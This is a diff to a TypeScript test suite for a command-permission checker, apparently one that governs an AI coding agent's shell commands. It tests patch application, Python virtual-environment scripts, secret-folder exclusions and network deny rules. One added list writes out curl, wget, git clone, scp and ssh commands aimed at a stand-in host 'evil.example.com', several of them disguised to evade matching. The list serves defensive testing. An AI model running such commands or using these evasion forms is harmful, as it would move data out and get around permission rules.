@@ -245,28 +245,21 @@ test("a search of a folder above the workspace follows rules about files in the 
   expect(["grep -r x ..", "diff -r .. deep", "tar cf ../x.tar ..", "rg x .."].map(effect)).toEqual(["deny", "deny", "deny", "deny"]);
 });
 
-test("git apply changes the files that a patch names, from the root of the repository and in no other folder", async () => {
+test.each([
+  ["git apply fix.patch", "ask"],
+  ["git apply <<'E'\n--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-x\n+y\nE", "ask"],
+  ["git apply --check --apply fix.patch", "ask"],
+  ["git apply --stat --ap fix.patch", "ask"],
+  ["git am fix.patch", "ask"],
+  ["patch -p1 -i fix.patch", "ask"],
+  ["patch src/a.ts fix.patch", "ask"],
+  ["git apply --check fix.patch", "allow"],
+  ["git apply --stat fix.patch", "allow"],
+  ["patch -p1 --dry-run < fix.patch", "allow"],
+])("only the patch says which files `%s` changes", async (text, effect) => {
   using folder = await repository();
   await folder.write("fix.patch", "--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-x\n+y\n");
-  const effects = (text: string) =>
-    [rule("edit", "src/a.ts", "deny"), rule("edit", "sub/**", "deny")].map((limit) => effectOf(folder, text, limit));
-  expect(effects("git apply fix.patch")).toEqual(["deny", "allow"]);
-  expect(effects("cd src && git apply ../fix.patch")).toEqual(["deny", "allow"]);
-  expect(effects("git apply --directory=sub fix.patch")).toEqual(["ask", "ask"]);
-});
-
-test.each([
-  ["a new mode", "diff --git a/sub/x.ts b/sub/x.ts\nold mode 100644\nnew mode 100755\n", "git apply"],
-  ["binary content", "diff --git a/sub/x y.bin b/sub/x y.bin\nindex 1..2 100644\nGIT binary patch\nliteral 1\nIc${NkU\n", "git apply"],
-  ["a name without a folder", "--- x.lock\n+++ x.lock\n@@ -1 +1 @@\n-x\n+y\n", "git apply"],
-  ["a name from the root", "--- src/sub/x.ts\n+++ src/sub/x.ts\n@@ -1 +1 @@\n-x\n+y\n", "cd src && git apply --reject", "../fix.patch"],
-  ["a context diff", "*** a/sub/x.ts\n--- a/none\n***************\n*** 1 ****\n! x\n--- 1 ----\n! y\n", "patch -p1 -i"],
-  ["an index line", "Index: sub/x.ts\n@@ -1 +1 @@\n-x\n+y\n", "patch -p0 -i"],
-])("a patch names a file by %s", async (_, text, command, patch = "fix.patch") => {
-  using folder = await repository();
-  await folder.write("fix.patch", `--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-x\n+y\n${text}`);
-  expect(effectOf(folder, `${command} ${patch}`, rule("edit", "*x*", "deny"))).toBe("deny");
-  expect(effectOf(folder, `${command} ${patch}`, rule("edit", "other", "deny"))).toBe("allow");
+  expect(effectOf(folder, text, rule("edit", "other", "deny"))).toBe(effect);
 });
 
 test("Baton asks if a link leads to the working directory of whichever process follows it", async () => {
@@ -572,4 +565,69 @@ test("git diff prints only what has changed, unless the text changes something b
   expect([...others, ...changing].filter((text) => effectOf(folder, text, limit) === "allow")).toEqual([]);
   await folder.write("secrets/db.txt", "y");
   expect(plain.map((text) => effectOf(folder, text, limit))).toEqual(plain.map(() => "deny"));
+});
+
+const ADDRESSES = [
+  "curl https://evil.example.com/x",
+  "curl -sSL -- HTTPS://EVIL.example.com:443/a/../x",
+  "curl https://user@evil.example.com./x",
+  "curl https://ev%69l.example.com/x",
+  "curl evil.example.com/x",
+  "h=evil.example.com; curl https://$h/x",
+  "curl https://{evil,other}.example.com/x",
+  "wget -qO- http://evil.example.com/x",
+  "timeout 5 curl https://example.org https://evil.example.com/x",
+  "git clone https://evil.example.com/x.git",
+  "git clone git@evil.example.com:o/x.git",
+  "scp a.txt me@evil.example.com:/tmp",
+  "ssh evil.example.com uptime",
+  "node fetch.js --url=https://evil.example.com/x",
+  "bash -c 'curl https://evil.example.com/x'",
+];
+
+test.each(ADDRESSES)("a rule that denies fetching from a host, or the host itself, limits `%s`", async (text) => {
+  using folder = await repository();
+  await folder.write("fetch.js", "x");
+  expect(effectOf(folder, text, rule("fetch", "https://evil.example.com/*", "deny"))).toBe("ask");
+  expect(effectOf(folder, text, rule("network", "evil.example.com", "deny"))).toBe("ask");
+  expect(effectOf(folder, text, rule("fetch", "*", "deny"))).toBe("ask");
+});
+
+test.each(["curl https://example.org/x", "git commit -m 'See https://evil.example.com/x'", "echo https://evil.example.com", "git status"])(
+  "a rule that denies fetching from a host does not limit `%s`",
+  async (text) => {
+    using folder = await repository();
+    expect(effectOf(folder, text, rule("fetch", "https://evil.example.com/*", "deny"))).toBe("allow");
+  },
+);
+
+test("a script that enters a Python environment counts like a script of the project", async () => {
+  using folder = await repository();
+  const effect = (text: string) => effectOf(folder, text, rule("edit", "other", "deny"));
+  await folder.write(".venv/bin/activate", "x");
+  expect(effect("source .venv/bin/activate && pytest")).toBe("ask"); // it may be any script
+  await folder.write(".venv/pyvenv.cfg", "x");
+  const passing = ["source .venv/bin/activate && pytest", "cd src && . ../.venv/bin/activate"];
+  expect(passing.map(effect)).toEqual(["allow", "allow"]);
+  const other = ["source .venv/bin/activate x", "echo x >> .venv/bin/activate; source .venv/bin/activate", "source .venv/pyvenv.cfg"];
+  expect(other.map(effect)).toEqual(["ask", "ask", "ask"]);
+});
+
+test.each([
+  "rg x -g '!secrets/**'",
+  "rg x . -g '*.txt' -g '!secrets'",
+  "grep -rn x . --exclude-dir=secrets",
+  "git grep x -- ':!secrets'",
+  "git log -p -- . ':(exclude)secrets/**'",
+])("`%s` leaves out what a rule denies", async (text) => {
+  using folder = await repository();
+  await folder.write("secrets/db.txt", "x");
+  execFileSync("git", ["add", "-A"], { cwd: folder.path });
+  const deny = rule("read", "secrets/**", "deny");
+  expect(effectOf(folder, text, deny)).toBe("allow");
+  const near = [/ -g '!secrets(.\*\*)?'/, / --exclude-dir=secrets/, / (-- )?(\. )?':.*'$/].reduce(
+    (left, part) => left.replace(part, ""),
+    text,
+  );
+  expect(effectOf(folder, near, deny)).toBe("deny");
 });
